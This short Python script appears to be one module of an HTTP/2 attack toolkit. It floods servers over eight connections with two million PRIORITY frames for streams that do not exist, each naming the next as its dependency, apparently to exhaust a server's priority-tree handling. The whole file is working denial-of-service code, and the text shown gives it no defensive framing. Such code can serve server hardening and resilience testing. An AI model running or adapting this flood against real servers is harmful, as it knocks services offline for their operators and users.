"""PRIORITY frames for streams that do not exist, and that depend on each other."""
from attack_program import program
from h2wire import PRIORITY, frame

AT_ONCE = 2_000


def run(attack):
    def block(_, at):
        first = at * AT_ONCE * 2 % (1 << 30) + 1
        return b"".join(frame(PRIORITY, 0, first + 2 * i, (first + 2 * i + 2).to_bytes(4, "big") + b"\x10") for i in range(AT_ONCE))
    attack.flood(block, attack.options.count // AT_ONCE)


if __name__ == "__main__":
    program(__doc__, run, count=2_000_000, connections=8, megabytes=40)
